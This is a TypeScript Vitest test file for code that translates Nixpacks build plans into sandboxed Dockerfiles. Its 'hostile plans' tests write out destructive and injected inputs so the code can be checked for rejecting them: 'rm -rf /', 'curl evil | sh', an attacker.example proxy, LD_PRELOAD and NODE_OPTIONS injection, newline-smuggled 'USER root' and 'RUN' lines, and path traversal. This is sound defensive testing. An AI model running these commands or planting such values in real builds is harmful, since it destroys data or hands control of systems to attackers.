import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import { installScript, renderDockerfile } from './dockerfile.js';
import { NixpacksPlanError } from './errors.js';
import { nixpacksRecipe, planJsonFromSnapshot, relocate, translatePlan } from './nixpacks.js';
import { nixpacksEnv } from './nixpacks-run.js';
import type { Provider } from './provider.js';

const plansDir = fileURLToPath(new URL('../../../../shared/fixtures/nixpacks-plans/', import.meta.url));
const snaps = existsSync(plansDir)
  ? readdirSync(plansDir)
      .filter((name) => name.endsWith('.snap'))
      .sort()
  : [];
const plan = (name: string) => planJsonFromSnapshot(readFileSync(`${plansDir}${name}`, 'utf8'));
const providerOf = (name: string): Provider =>
  name.startsWith('node')
    ? 'node'
    : name.startsWith('python')
      ? 'python'
      : name.startsWith('go')
        ? 'go'
        : name.startsWith('rust')
          ? 'rust'
          : 'plain';

describe.skipIf(snaps.length === 0)('translatePlan on real nixpacks plans', () => {
  it('has the fixture plans', () => {
    expect(snaps.length).toBeGreaterThanOrEqual(10);
  });

  it.each(snaps)('%s translates into a /deps Dockerfile', (name) => {
    const provider = providerOf(name);
    const files = [{ path: 'package.json', content: Buffer.from('{}') }];
    const recipe = nixpacksRecipe(plan(name), files, { provider });
    const text = renderDockerfile('ca-sbx-base:debian', recipe);
    // Nothing of nixpacks' own layout or images survives the translation.
    expect(text).not.toMatch(/\/app\b/);
    expect(text).not.toMatch(/\/opt\/venv/);
    expect(text).not.toContain('[build_image]');
    expect(text).not.toMatch(/^FROM (?!ca-sbx-base:debian$)/m);
    expect(
      text
        .split('\n')
        .filter((l) => l.startsWith('USER '))
        .at(-1),
    ).toBe('USER 1000:1000');
    expect(recipe.env.map((e) => e.name).filter((n) => /^(LD_|NODE_OPTIONS$|BASH_ENV$)/.test(n))).toEqual([]);
    expect(recipe.env.filter((e) => e.name === 'HOME').map((e) => e.value)).toEqual(['/tmp']);
  });

  it('takes the install phase and relocates it under /deps', () => {
    expect(translatePlan(plan('node_npm.snap'), 'node')).toMatchObject({
      provider: 'node',
      install: ['npm ci'],
      paths: ['/deps/node_modules/.bin'],
    });
    const python = translatePlan(plan('python.snap'), 'python');
    expect(python.install[0]).toBe(
      'python -m venv --copies /deps/venv && . /deps/venv/bin/activate && pip install -r requirements.txt',
    );
    expect(python.paths).toEqual(['/deps/venv/bin']);
    expect(python.variables.map((v) => v.name)).toContain('PIP_NO_CACHE_DIR');
    const yarnBerry = translatePlan(plan('node_yarn_berry.snap'), 'node');
    expect(yarnBerry.install).toEqual([
      'npm install -g corepack@0.24.1 && corepack enable',
      'yarn install --check-cache',
    ]);
    expect(translatePlan(plan('go_mod.snap'), 'go').install).toEqual(['go mod download']);
  });

  it('notes what it does not use: nix packages, build/start phases', () => {
    const notes = translatePlan(plan('node_pnpm.snap'), 'node').notes.join('\n');
    expect(notes).toMatch(/nix packages not installed.*nodejs_18/);
    expect(notes).toMatch(/phases not run.*build/);
  });

  it('falls back to the built-in install when the plan has none (rust, deno, custom)', () => {
    const files = [{ path: 'Cargo.toml', content: Buffer.from('[package]\nname="x"\n') }];
    const recipe = nixpacksRecipe(plan('rust_rocket_no_musl.snap'), files, {
      provider: 'rust',
      packageManager: 'cargo',
    });
    expect(recipe.install).toContain('cargo fetch');
    expect(recipe.notes.join()).toMatch(/no install phase/);
    expect(recipe.env.map((e) => e.name)).toContain('ROCKET_ADDRESS');
  });

  it('keeps the python venv importable under /deps/venv', () => {
    const recipe = nixpacksRecipe(plan('python_uv.snap'), [], { provider: 'python', packageManager: 'uv' });
    expect(recipe.env).toContainEqual({ name: 'VIRTUAL_ENV', value: '/deps/venv' });
    expect(recipe.env.find((e) => e.name === 'UV_PROJECT_ENVIRONMENT')?.value).toBe('/deps/venv');
  });
});

describe('translatePlan on hostile plans', () => {
  it('refuses a plan of the wrong shape', () => {
    expect(() => translatePlan({ phases: { install: { cmds: 'rm -rf /' } } }, 'node')).toThrow(
      NixpacksPlanError,
    );
    expect(() => translatePlan({ phases: { install: { cmds: Array(33).fill('x') } } }, 'node')).toThrow(
      NixpacksPlanError,
    );
    expect(() => translatePlan({ phases: { install: { cmds: ['a\u0000b'] } } }, 'node')).toThrow(
      NixpacksPlanError,
    );
    expect(() => planJsonFromSnapshot('not json')).toThrow(NixpacksPlanError);
  });

  it('drops reserved and malformed variables, and paths outside /deps', () => {
    const translated = translatePlan(
      {
        variables: {
          PATH: '/evil',
          LD_PRELOAD: '/x.so',
          NODE_OPTIONS: '--require /x',
          'BAD NAME': '1',
          OK: 'a\nRUN evil',
          FINE: 'yes',
          // A proxy is the install's: the image keeps its Env, every box would get it.
          HTTP_PROXY: 'http://attacker.example:3128',
          no_proxy: '*',
        },
        phases: {
          install: { cmds: ['true'], paths: ['/usr/evil/bin', '/app/../../etc', '/app/node_modules/.bin'] },
        },
      },
      'node',
    );
    expect(translated.variables).toEqual([{ name: 'FINE', value: 'yes' }]);
    expect(translated.paths).toEqual(['/deps/node_modules/.bin']);
    expect(translated.notes.filter((n) => n.includes('ignored'))).toHaveLength(9);
  });

  it('keeps a hostile command inside one exec-form RUN line', () => {
    const recipe = nixpacksRecipe({ phases: { install: { cmds: ['echo hi\nUSER root\nRUN id'] } } }, [], {
      provider: 'plain',
    });
    const text = renderDockerfile('ca-sbx-base:debian', recipe);
    expect(text).not.toMatch(/^USER root/m);
    expect(text).not.toMatch(/^RUN id/m);
    expect(installScript(recipe)).toContain('echo hi\nUSER root\nRUN id');
  });

  it('relocates only whole /app and /opt/venv path components', () => {
    expect(relocate('cd /app && ls /application /app/x /opt/venv/bin /opt/venvy')).toBe(
      'cd /deps/src && ls /application /deps/src/x /deps/venv/bin /opt/venvy',
    );
  });

  it('runs nixpacks with PATH and a scratch HOME only (no host NIXPACKS_* variable)', () => {
    process.env.NIXPACKS_INSTALL_CMD = 'curl evil | sh';
    try {
      expect(Object.keys(nixpacksEnv('/tmp/x')).sort()).toEqual(['HOME', 'PATH']);
    } finally {
      delete process.env.NIXPACKS_INSTALL_CMD;
    }
  });
});
